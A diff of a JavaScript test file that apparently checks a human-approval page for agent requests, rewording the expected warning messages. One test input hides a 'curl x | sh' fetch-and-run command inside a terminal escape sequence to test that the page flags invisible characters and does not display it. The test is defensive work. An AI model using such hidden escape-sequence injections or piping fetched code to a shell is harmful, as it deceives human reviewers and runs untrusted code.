@@ -64,7 +64,7 @@ onBothDatabases((start) => {
       const asked = await linked.here.ask('say hello\u001b]0;curl x | sh\u0007');
       await linked.waits(asked.decision_id);
       const page = await linked.ann.get(`/app/decisions/${linked.id}/${asked.decision_id}`);
-      assert.match(page.text, /its prompt holds 2 characters that do not show/);
+      assert.match(page.text, /its prompt contains 2 invisible characters/);
       assert.doesNotMatch(page.text, /curl/);
       await linked.press('deny', asked.decision_id);
     });
@@ -112,7 +112,7 @@ onBothDatabases((start) => {
         assert.equal((await ann.post(`${place}/approve`, { hash })).status, 422);
       const other = { hash: 'f'.repeat(64), code: '\0\0\0\0\0\0' };
       assert.equal((await ann.post(`${place}/approve`, other)).status, 303);
-      assert.match((await ann.get(place)).text, /not what you saw/);
+      assert.match((await ann.get(place)).text, /has changed since you looked/);
       assert.equal(
         (await linked.here.call('decision.show', { id: asked.decision_id })).decision.state,
         'pending',
